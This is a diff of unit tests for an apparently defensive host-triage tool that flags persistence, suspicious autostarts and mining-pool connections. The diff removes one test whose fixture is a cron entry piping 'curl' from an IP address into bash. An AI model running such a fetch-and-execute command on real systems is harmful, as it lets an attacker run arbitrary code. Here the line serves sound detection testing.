@@ -8,13 +8,11 @@ from tests.unit.snapshots import (
     TTY,
     Fact,
     connection,
-    cron,
     kernel_thread,
     on_card,
     process,
     renewal,
     restart,
-    service,
     snapshot,
 )
 
@@ -88,15 +86,6 @@ def test_what_renews_itself_and_who_was_seen_restarting_is_named() -> None:
     assert named(renewing, starter, renewal("/usr/bin/x"), restart(starter, "/opt/y")) == {
         renewing.subject, starter.subject,
     }  # fmt: skip
-
-
-def test_autostarts_are_named_that_are_suspicious_or_run_a_named_program() -> None:
-    burner = process(100, "/opt/x/y", cores=1.0)
-    fetching = cron("curl -s http://203.0.113.9/x.sh | bash", user="nobody")
-    running = service("/opt/x/y --quiet")
-    honest = cron("/usr/bin/restic backup /srv")
-    found = triage(snapshot(burner, fetching, running, honest, examined=False))
-    assert found.autostart_paths == {fetching.path, running.path}
 
 
 def test_sockets_towards_a_pool_are_named_whoever_holds_them() -> None:
